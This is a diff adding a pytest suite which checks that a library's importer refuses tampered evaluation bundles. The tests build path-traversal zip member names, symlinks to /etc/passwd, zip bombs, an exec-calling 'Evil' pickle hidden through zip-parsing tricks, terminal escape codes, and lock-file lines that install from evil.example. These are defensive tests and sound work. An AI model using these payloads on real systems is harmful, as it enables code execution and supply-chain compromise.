@@ -1,0 +1,437 @@
+"""Bundles that somebody else made: each attack is refused, by the member, and nothing of it stays."""
+
+from __future__ import annotations
+
+import io
+import json
+import pickle
+import re
+import stat
+import struct
+import subprocess
+import sys
+import unittest.mock
+import zipfile
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+from evaluation.evaluation_fixtures import resealed
+from support import MAIN, limited, store
+
+from mosaic_lab import operators
+from mosaic_lab._version import __version__
+from mosaic_lab.cli import main
+from mosaic_lab.errors import MosaicError
+from mosaic_lab.evaluation.planning import evaluate
+from mosaic_lab.evaluation.sharing import archive, open_bundle
+from mosaic_lab.evaluation.sharing.weights import danger_in
+
+Members = dict[str, bytes]
+
+
+@pytest.fixture(scope="module")
+def members(tmp_path_factory: pytest.TempPathFactory) -> Members:
+    """The files of an honest bundle, but for its manifest."""
+    folder = tmp_path_factory.mktemp("honest")
+    with store(folder / "runs") as supervisor:
+        both = {"random": operators.random(), "still": operators.passive()}
+        evaluation = evaluate(supervisor, env="CartPole-v1", operators=both, seeds=[1, 2]).wait(120)
+        with zipfile.ZipFile(evaluation.bundle(folder / "honest.zip")) as honest:
+            return {name: honest.read(name) for name in honest.namelist()}
+
+
+def about(members: Members) -> dict[str, Any]:
+    """The manifest's facts beside those of files."""
+    return {name: value for name, value in json.loads(members["manifest.json"]).items() if name != "files"}
+
+
+def bundled(path: Path, members: Members, changed: Members, **facts: Any) -> Path:
+    """A bundle with other files, whose manifest vouches for all of them."""
+    files = {name: content for name, content in members.items() if name != "manifest.json"} | changed
+    archive.write(path, files, about(members) | facts)
+    return path
+
+
+def tampered(path: Path, members: Members, *extra: tuple[zipfile.ZipInfo, bytes]) -> Path:
+    """An honest bundle with more members, that its manifest does not know of."""
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as bundle:
+        for name, content in members.items():
+            bundle.writestr(name, content)
+        for member, content in extra:
+            bundle.writestr(member, content)
+    return path
+
+
+def refused(path: Path, says: str) -> None:
+    """It is, with that; and nothing was written, neither inside nor beside."""
+    before = set(path.parent.rglob("*"))
+    with pytest.raises(MosaicError, match=says):
+        open_bundle(path, path.parent / "into")
+    assert set(path.parent.rglob("*")) == before
+
+
+def test_an_honest_one_is_not(tmp_path: Path, members: Members) -> None:
+    bundle = open_bundle(bundled(tmp_path / "honest.zip", members, {}), tmp_path / "into")
+    assert len(bundle.records()) == 4
+    assert len(bundle.steps("random", 2)) == bundle.records()[2]["steps"]
+    with pytest.raises(MosaicError, match=r"into is there already"):
+        open_bundle(tmp_path / "honest.zip", tmp_path / "into")
+
+
+NAMES = {
+    "../outside.json": "would be written outside of its folder",
+    "checkpoints/1/../../../outside.json": "would be written outside of its folder",
+    "/etc/outside.json": "has an absolute name",
+    "C:/outside.json": "has an absolute name",
+    "\\\\server\\outside.json": "has an absolute name",
+    "checkpoints\\..\\outside.json": "would be written outside of its folder",
+    f"checkpoints/1/{'a' * 300}.json": "has a name of 319 characters",
+    "checkpoints/1/con.json": "has a name that is not the same on every system",
+    "checkpoints/1/ﬁle.json": "has a name that is not the same on every system",
+    "checkpoints/1/a\0b.json": "has a name that is not the same on every system",
+    "checkpoints/1/policy.py": "is nothing that a bundle holds",
+    "config.json": "is nothing that a bundle holds",
+    "SCRIPT.json": "is nothing that a bundle holds",
+}
+
+
+@pytest.mark.parametrize("name", NAMES)
+def test_names_that_lead_elsewhere(tmp_path: Path, members: Members, name: str) -> None:
+    member = zipfile.ZipInfo("placeholder")
+    member.filename = name
+    refused(tampered(tmp_path / "names.zip", members, (member, b"{}")), NAMES[name])
+
+
+def test_two_names_for_one_file(tmp_path: Path, members: Members) -> None:
+    twice = [(zipfile.ZipInfo(f"checkpoints/1/{name}.json"), b"{}") for name in ("policy", "Policy")]
+    refused(tampered(tmp_path / "case.zip", members, *twice), "'checkpoints/1/Policy.json' is in it twice")
+    with pytest.warns(UserWarning, match="Duplicate name"):
+        tampered(tmp_path / "again.zip", members, (zipfile.ZipInfo("script.json"), b"{}"))
+    refused(tmp_path / "again.zip", "'script.json' is in it twice")
+    inside = [(zipfile.ZipInfo(f"checkpoints/1/{name}"), b"{}") for name in ("a.json", "a.json/b.json")]
+    refused(tampered(tmp_path / "inside.zip", members, *inside), "lies in 'checkpoints/1/a.json', which is a")
+
+
+@pytest.mark.parametrize(
+    ("kind", "says"),
+    [
+        (stat.S_IFLNK, "is a symbolic link"),
+        (stat.S_IFCHR, "is a device or another special file"),
+        (stat.S_IFIFO, "is a device or another special file"),
+        (stat.S_IFDIR, "is a device or another special file"),
+    ],
+)
+def test_what_is_no_file(tmp_path: Path, members: Members, kind: int, says: str) -> None:
+    member = zipfile.ZipInfo("checkpoints/1/policy.json")
+    member.external_attr = (kind | 0o777) << 16
+    refused(tampered(tmp_path / "kinds.zip", members, (member, b"/etc/passwd")), f"policy.json' {says}")
+
+
+def test_encrypted_members(tmp_path: Path, members: Members) -> None:
+    path = tampered(tmp_path / "locked.zip", members)
+    content = bytearray(path.read_bytes())
+    entry = content.index(b"PK\x01\x02")
+    content[entry + 8] |= 1
+    path.write_bytes(content)
+    refused(path, "is encrypted")
+
+
+def test_bombs(tmp_path: Path, members: Members) -> None:
+    refused(
+        bundled(tmp_path / "ratio.zip", members, {"checkpoints/1/policy.json": bytes(32 << 20)}),
+        r"'checkpoints/1/policy.json' would unpack from [\d,]+ to 33,554,432 bytes: that is a bomb",
+    )
+    several = {f"checkpoints/1/{number}.json": bytes(1 << 20) for number in range(5)}
+    refused(
+        bundled(tmp_path / "all.zip", members, several), r"refused: it would unpack from [\d,]+ to 5,\d+,"
+    )
+    many = {f"checkpoints/1/{number}.json": b"" for number in range(20_001)}
+    refused(bundled(tmp_path / "many.zip", members, many), r"it has 20,\d+ members, 20,000 at most")
+    honest = bundled(tmp_path / "total.zip", members, {})
+    with pytest.raises(
+        MosaicError, match=r"'steps/0-random\.\d/telemetry.jsonl' is the largest of [\d,]+ bytes in"
+    ):
+        archive.unpack(honest, tmp_path / "into", re.compile(".*"), archive.Limits(total=10_000))
+
+
+def test_sizes_that_lie(tmp_path: Path, members: Members) -> None:
+    path = tampered(tmp_path / "lies.zip", members)
+    content = bytearray(path.read_bytes())
+    size = len(members["results.csv"])
+    entry = content.rindex(b"results.csv") - 46
+    content[entry + 24 : entry + 28] = (size - 1).to_bytes(4, "little")
+    path.write_bytes(content)
+    refused(path, f"'results.csv' has {size - 1:,} bytes, not {size:,}")
+
+
+def test_a_manifest_that_lies(tmp_path: Path, members: Members) -> None:
+    other = members | {"results.csv": members["results.csv"].replace(b"random", b"RANDOM")}
+    refused(tampered(tmp_path / "content.zip", other), "'results.csv' is not what manifest.json says")
+    fewer = {name: content for name, content in members.items() if name != "results.csv"}
+    refused(tampered(tmp_path / "fewer.zip", fewer), "'results.csv' is in manifest.json only")
+    more = (zipfile.ZipInfo("notebook.ipynb"), b"{}")
+    refused(tampered(tmp_path / "more.zip", members, more), "'notebook.ipynb' is not in manifest.json")
+    none = {name: content for name, content in members.items() if name != "manifest.json"}
+    refused(tampered(tmp_path / "none.zip", none), "is no bundle of mosaic-lab")
+    for text in (b"[]", b'{"files": {"a": 1}}', b"{", b'{"files": ' + b"[" * 100_000):
+        wrong = members | {"manifest.json": text}
+        refused(tampered(tmp_path / "wrong.zip", wrong), r"'manifest.json' (cannot be read|is nested too)")
+    refused(bundled(tmp_path / "format.zip", members, {}, format="mosaic-bundle/9"), "mosaic-bundle/9")
+    for versions in ([], {"random": []}, {"random": {"numpy": 2}}, {"random": {"numpy": "\x1b[2J"}}):
+        path = bundled(tmp_path / "versions.zip", members, {}, versions=versions)
+        refused(path, "'manifest.json' does not tell")
+
+
+def test_results_that_were_changed(tmp_path: Path, members: Members) -> None:
+    def changed(old: bytes, new: bytes, count: int = -1) -> Members:
+        return {"episodes.jsonl": resealed(members["episodes.jsonl"].replace(old, new, count))}
+
+    better = members["episodes.jsonl"].replace(b'"terminated":true', b'"terminated":false', 1)
+    refused(
+        bundled(tmp_path / "flipped.zip", members, {"episodes.jsonl": better}),
+        r"'episodes.jsonl' is damaged in line \d: the checksum does not match",
+    )
+    refused(
+        bundled(tmp_path / "seeds.zip", members, changed(b'"seed":2,', b'"seed":3,')), "holds other episo"
+    )
+    better = changed(b'"success":null', b'"success":true', 1)
+    refused(
+        bundled(tmp_path / "better.zip", members, better), "'results.csv' is not the table of episodes.json"
+    )
+    shorter = {"script.json": json.dumps(json.loads(members["script.json"]) | {"max_steps": 400}).encode()}
+    refused(
+        bundled(tmp_path / "steps.zip", members, shorter), "'episodes.jsonl' and script.json are not what the"
+    )
+    elsewhere = changed(b'"arena":"', b'"arena":"../../')
+    refused(bundled(tmp_path / "arena.zip", members, elsewhere), "names arenas that are")
+    deep = changed(b'"returns":{', b'"returns":{"a":' + b"[" * 50_000 + b"],", 1)
+    refused(bundled(tmp_path / "deep.zip", members, deep), "holds other episodes")
+
+
+def test_a_table_that_is_not_of_its_episodes(tmp_path: Path, members: Members) -> None:
+    rows = members["results.csv"].splitlines(keepends=True)
+    better = rows[2].replace(b",ok,", b",failed,")
+    for name, table, row in (
+        ("cell", [*rows[:2], better, *rows[3:]], 2),
+        ("short", rows[:-1], 4),
+        ("long", [*rows, rows[1]], 5),
+        ("columns", [rows[0].replace(b"return", b"score"), *rows[1:]], 0),
+    ):
+        path = bundled(tmp_path / f"{name}.zip", members, {"results.csv": b"".join(table)})
+        refused(path, rf"'results.csv' is not the table of episodes.jsonl: row {row} differs")
+
+
+def test_another_version_says_what_it_could_not_check(
+    tmp_path: Path, members: Members, capsys: pytest.CaptureFixture[str]
+) -> None:
+    path = bundled(tmp_path / "old.zip", members, {}, mosaic_lab="0.0.1")
+    said = rf"the fingerprint was not checked: old.zip was made by mosaic-lab 0\.0\.1, this is {__version__}"
+    assert re.match(said, open_bundle(path, tmp_path / "old").unchecked)
+    where = ["--into", str(tmp_path / "again"), "--store", str(tmp_path / "runs")]
+    assert main(["evaluate", str(path), "--verify", "--sample", "1", *where]) == 0
+    assert re.search(said, capsys.readouterr().out)
+    assert not open_bundle(bundled(tmp_path / "same.zip", members, {}), tmp_path / "same").unchecked
+
+
+MANY = {
+    "episodes": lambda s: s.update(episodes=1_250_000),
+    "episodes beyond numbers": lambda s: s.update(episodes=10**4000),
+    "seeds": lambda s: s.update(seeds=list(range(100_000))),
+    "a range of seeds": lambda s: s.update(seeds={"first": 0, "count": 1_000_000}),
+    "operators": lambda s: s["operators"].update({f"op{n}": {"kind": "random"} for n in range(9_000)}),
+}
+
+
+@pytest.mark.parametrize("what", MANY)
+def test_more_is_announced_than_is_there(tmp_path: Path, members: Members, what: str) -> None:
+    script = json.loads(members["script.json"])
+    MANY[what](script)
+    path = bundled(tmp_path / "many.zip", members, {"script.json": json.dumps(script).encode()})
+    expanded = AssertionError("the script was expanded before it was checked")
+    with unittest.mock.patch("mosaic_lab.evaluation.planning.planned", side_effect=expanded):
+        refused(
+            path, "'script.json': (it asks for .* seeds, and the bundle has 4 in total|.* has a list of se)"
+        )
+
+
+def test_a_space_of_any_size_is_read_as_it_is(tmp_path: Path) -> None:
+    space = {"type": "Box", "shape": [10**12], "dtype": "float32", "low": -1.0, "high": 1.0}
+    described = {"format": "mosaic-cleanrl/1", "observation_space": space, "action_space": space}
+    (tmp_path / "policy.json").write_text(json.dumps(described))
+    (tmp_path / "policy.pt").write_bytes(b"")
+    assert operators.rl(tmp_path / "policy.pt").action_space == space
+
+
+def test_a_full_disk_is_one_sentence(tmp_path: Path, members: Members) -> None:
+    path = bundled(tmp_path / "share.zip", members, {})
+    where = ["--into", str(tmp_path / "into"), "--store", str(tmp_path / "runs")]
+    said = limited(tmp_path, "evaluate", str(path), *where)
+    assert re.fullmatch(r"mosaic-lab: share.zip cannot be unpacked in .*/into: File too large\. .*\n", said)
+    assert not (tmp_path / "into").exists()
+    with Path("/dev/full").open("w") as full:
+        command = [sys.executable, "-c", MAIN, "evaluate", str(path), *where]
+        done = subprocess.run(command, stdout=full, stderr=subprocess.PIPE, text=True, timeout=120)
+    assert done.returncode == 1
+    assert (
+        done.stderr == "mosaic-lab: the output cannot be written: No space left on device; free some space\n"
+    )
+
+
+SCRIPTS: dict[str, tuple[Callable[[dict[str, Any]], object], str]] = {
+    "a command": (lambda s: s.update(command=["rm"]), "says nothing of 'command'"),
+    "as many processes as it likes": (lambda s: s.update(parallel=10_000), "says nothing of 'parallel'"),
+    "a module": (lambda s: s.update(env="this:CartPole-v1"), "names no module to import"),
+    "a variable": (
+        lambda s: s["operators"].update(a={"kind": "worker", "worker": "x", "pass_env": ["HOME"]}),
+        "an operator of a bundle has no 'pass_env'",
+    ),
+    "settings": (
+        lambda s: s["operators"].update(a={"kind": "worker", "worker": "x", "settings": {"url": "x"}}),
+        "an operator of a bundle has no 'settings'",
+    ),
+    "a run of yours": (
+        lambda s: s["operators"].update(a={"*": {"kind": "rl", "run": "k3f9"}}),
+        "an operator of a bundle has no 'run'",
+    ),
+    "a file of yours": (
+        lambda s: s["operators"].update(a={"kind": "rl", "checkpoint": "/etc/policy.pt"}),
+        "the checkpoint '/etc/policy.pt' lies outside of the bundle",
+    ),
+    "a file beside": (
+        lambda s: s["operators"].update(a={"kind": "rl", "checkpoint": "checkpoints/../../policy.pt"}),
+        "lies outside of the bundle",
+    ),
+    "another kind": (lambda s: s["operators"].update(a={"kind": "human"}), "is none of the kind 'human'"),
+    "a text that a terminal obeys": (
+        lambda s: s["operators"].update({"\x1b[2J": {"kind": "random"}}),
+        "is no name for an operator",
+    ),
+    "no operators": (lambda s: s.update(operators=[1]), "it cannot be read"),
+}
+
+
+@pytest.mark.parametrize("what", SCRIPTS)
+def test_scripts_that_name_what_is_not_theirs(tmp_path: Path, members: Members, what: str) -> None:
+    change, says = SCRIPTS[what]
+    script = json.loads(members["script.json"])
+    change(script)
+    path = bundled(tmp_path / "script.zip", members, {"script.json": json.dumps(script).encode()})
+    refused(path, f"'script.json': .*{says}")
+
+
+def test_scripts_that_are_too_deep(tmp_path: Path, members: Members) -> None:
+    deep = {"script.json": b'{"settings": ' + b"[" * 100_000}
+    refused(bundled(tmp_path / "deep.zip", members, deep), r"'script.json': it is nested too deeply")
+
+
+class Evil:
+    """What somebody might put into a pickle."""
+
+    def __reduce__(self) -> tuple[Callable[..., Any], tuple[str, ...]]:
+        return exec, ("raise SystemExit('executed')",)
+
+
+@pytest.mark.parametrize("protocol", [0, 2, 4])
+def test_pickles(tmp_path: Path, members: Members, protocol: int) -> None:
+    pickled = pickle.dumps({"modules": Evil()}, protocol)
+    plain = {"checkpoints/1/policy.pt": pickled}
+    refused(bundled(tmp_path / "plain.zip", members, plain), "policy.pt' is a plain pickle or no file of wei")
+    weights = io.BytesIO()
+    with zipfile.ZipFile(weights, "w") as inner:
+        inner.writestr("archive/data.pkl", pickled)
+    inside = {"checkpoints/1/policy.pt": weights.getvalue()}
+    refused(bundled(tmp_path / "inside.zip", members, inside), "policy.pt' is a pickle that would call")
+    with zipfile.ZipFile(weights, "a") as inner:
+        inner.writestr("archive/more.pkl", pickled)
+    two = {"checkpoints/1/policy.pt": weights.getvalue()}
+    refused(bundled(tmp_path / "two.zip", members, two), "it has 2 pickles")
+    harmless = io.BytesIO()
+    with zipfile.ZipFile(harmless, "w") as inner:
+        inner.writestr("archive/data.pkl", pickle.dumps({}, protocol))
+    behind = {"checkpoints/1/policy.pt": pickled + harmless.getvalue()}
+    refused(
+        bundled(tmp_path / "behind.zip", members, behind), "policy.pt' is a plain pickle or no file of wei"
+    )
+
+
+def zipped(*members: tuple[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
+    weights = io.BytesIO()
+    with zipfile.ZipFile(weights, "w", method) as inner:
+        for name, content in members:
+            inner.writestr(name, content)
+    return weights.getvalue()
+
+
+SAFE, EVIL = pickle.dumps({}, 2), pickle.dumps(Evil(), 2)
+HIDDEN = {
+    "case": zipped(("archive/data.pkl", SAFE), ("archive/DATA.PKL", EVIL)),
+    "case alone": zipped(("archive/DATA.PKL", EVIL)),
+    "twice": zipped(("archive/data.pkl", EVIL), ("archive/data.pkl", SAFE)),
+    "another folder first": zipped(("other/version", b"3"), ("archive/data.pkl", SAFE), ("other/data", EVIL)),
+    "nested": zipped(("archive/archive/data.pkl", SAFE), ("archive/data", EVIL)),
+    "backslash": zipped(("archive/data.pkl", SAFE), ("archive\\data.pkl", EVIL)),
+    "unicode": zipped(
+        ("archive/data.pkl", SAFE), ("archive/data.pᏦl", EVIL), ("archive/data.p\u212al", EVIL)
+    ),
+    "compressed": zipped(("archive/data.pkl", SAFE + b"N" * 100_000), method=zipfile.ZIP_DEFLATED),
+}
+
+
+@pytest.mark.filterwarnings("ignore:Duplicate name")
+@pytest.mark.parametrize("how", [*HIDDEN, "two lists"])
+def test_pickles_that_another_reader_would_find(tmp_path: Path, members: Members, how: str) -> None:
+    weights = HIDDEN[how] if how in HIDDEN else two_lists()
+    path = bundled(tmp_path / "hidden.zip", members, {"checkpoints/1/policy.pt": weights})
+    says = "two members|pickle|not the same to every reader|differently than others|is compressed"
+    refused(path, f"policy.pt' .*({says})")
+
+
+def two_lists() -> bytes:
+    """A zip file with two lists of members: the end names one, and the other stands where it should."""
+    evil = zipped(("archive/data.pkl", EVIL))
+    safe = zipped(("archive/data.pkl", SAFE))
+    at, end = evil.index(b"PK\x01\x02"), safe.index(b"PK\x01\x02")
+    content = evil[:at] + safe[:end]  # the members, one behind the other
+    wrong = content + evil[at:-22] + safe[end:-22]
+    directory = safe[-22:-6] + len(content).to_bytes(4, "little") + b"\0\0"
+    return wrong + directory
+
+
+def test_weights_of_pytorch_itself_are_not_refused(tmp_path: Path) -> None:
+    """As PyTorch 2.13 writes them: an end for large files, whatever their size."""
+    names = ("data.pkl", ".format_version", "byteorder", "data/0", "version", ".data/serialization_id")
+    plain = zipped(*((f"policy/{name}", SAFE) for name in names))
+    at = plain.index(b"PK\x01\x02")
+    count, size = len(names), len(plain) - at - 22
+    large = struct.pack("<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, count, count, size, at)
+    locator = struct.pack("<4sLQL", b"PK\x06\x07", 0, len(plain) - 22, 1)
+    for content, said in (
+        (plain, ""),
+        (plain[:-22] + large + locator + plain[-22:], ""),
+        (
+            plain[:-22] + large + locator[:8] + bytes(8) + locator[16:] + plain[-22:],
+            "differently than others",
+        ),
+    ):
+        (tmp_path / "policy.pt").write_bytes(content)
+        assert said in danger_in(tmp_path / "policy.pt") and bool(said) == bool(
+            danger_in(tmp_path / "policy.pt")
+        )
+
+
+def test_lock_files_that_install_something_else(tmp_path: Path, members: Members) -> None:
+    for line in (b"evil @ https://evil.example/evil.whl", b"--index-url https://evil.example", b"a==1; b"):
+        lock = {"locks/random.txt": members["locks/random.txt"] + line + b"\n"}
+        refused(bundled(tmp_path / "lock.zip", members, lock), r"'locks/random.txt' is no lock file")
+
+
+def test_what_is_no_zip_file(tmp_path: Path, members: Members) -> None:
+    (tmp_path / "text.zip").write_text("no zip file")
+    refused(tmp_path / "text.zip", "text.zip cannot be read as a zip file")
+    whole = tampered(tmp_path / "whole.zip", members).read_bytes()
+    at = whole.index(b"results.csv") + 60
+    (tmp_path / "torn.zip").write_bytes(whole[:at] + b"\xff" * 8 + whole[at + 8 :])
+    refused(tmp_path / "torn.zip", "torn.zip cannot be read as a zip file")
+    refused(tmp_path / "nowhere.zip", "there is no bundle")
